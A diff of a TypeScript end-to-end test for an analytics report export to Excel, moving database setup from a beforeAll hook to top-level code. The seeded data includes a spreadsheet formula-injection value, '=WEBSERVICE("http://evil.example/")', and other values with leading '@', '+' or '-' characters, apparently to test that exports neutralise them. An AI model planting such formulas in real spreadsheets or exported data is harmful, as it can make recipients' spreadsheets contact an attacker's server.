@@ -1,27 +1,21 @@
 import ExcelJS from 'exceljs'
-import { beforeAll, describe, expect, it } from 'vitest'
-import { type AnalyticsWorld, makeAnalyticsWorld, namesOf, numberOf } from '@/e2e/support/analytics-world'
+import { describe, expect, it } from 'vitest'
+import { makeAnalyticsWorld, namesOf, numberOf } from '@/e2e/support/analytics-world'
 import { signedIn } from '@/e2e/support/api'
 import { checksum } from '@/e2e/support/checksum'
-import { resetDatabase } from '@/e2e/support/database'
 import { companyScope } from '@/lib/core/auth/scope'
 import { findSession } from '@/lib/core/auth/session'
 import { db } from '@/lib/core/db/client'
 import { exportReport } from '@/lib/features/analytics/export/export'
 import { reportQuerySchema } from '@/lib/features/analytics/schema'
 
-let world: AnalyticsWorld
-
-beforeAll(async () => {
-  await resetDatabase()
-  world = await makeAnalyticsWorld()
-  // Text that a spreadsheet would run.
-  await db().metric.update({
-    where: { id: world.metrics.m1 },
-    data: { name: '=WEBSERVICE("http://evil.example/")', description: '<p>@сумма &lt;1&gt;</p><p>+7</p>' },
-  })
-  await db().metricCategory.update({ where: { id: world.categoryId }, data: { name: '-Категория' } })
+const world = await makeAnalyticsWorld()
+// Text that a spreadsheet would run.
+await db().metric.update({
+  where: { id: world.metrics.m1 },
+  data: { name: '=WEBSERVICE("http://evil.example/")', description: '<p>@сумма &lt;1&gt;</p><p>+7</p>' },
 })
+await db().metricCategory.update({ where: { id: world.categoryId }, data: { name: '-Категория' } })
 
 const query = (text: Record<string, string>) => reportQuerySchema.parse(text)
 
